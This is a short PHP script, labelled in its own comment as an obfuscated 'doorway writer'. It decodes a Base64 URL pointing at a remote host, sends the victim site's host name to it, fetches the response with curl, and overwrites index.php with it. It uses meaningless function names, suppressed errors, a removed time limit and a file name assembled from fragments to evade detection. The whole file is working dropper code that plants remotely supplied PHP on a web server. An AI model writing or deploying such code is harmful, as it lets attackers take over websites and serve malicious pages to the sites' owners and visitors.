<?php
// Obfuscated doorway writer: the panel's address is Base64, the helpers' names are meaningless and
// the script's name is glued from pieces; the remote answer still lands in a PHP file.
@set_time_limit(0);
function q1($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); curl_setopt($c, CURLOPT_TIMEOUT, 9); $r = curl_exec($c); curl_close($c); return $r; }
function q2($f, $d, $m = 'w') { $h = @fopen($f, $m); if ($h) { @fputs($h, $d); @fclose($h); } }
$q3 = base64_decode('aHR0cDovLzIwMy4wLjExMy43Ny9kb29yLnR4dD9oPQ==') . urlencode($_SERVER['HTTP_HOST']);
$q4 = 'ind' . 'ex' . '.p' . 'hp';
q2($q4, q1($q3));
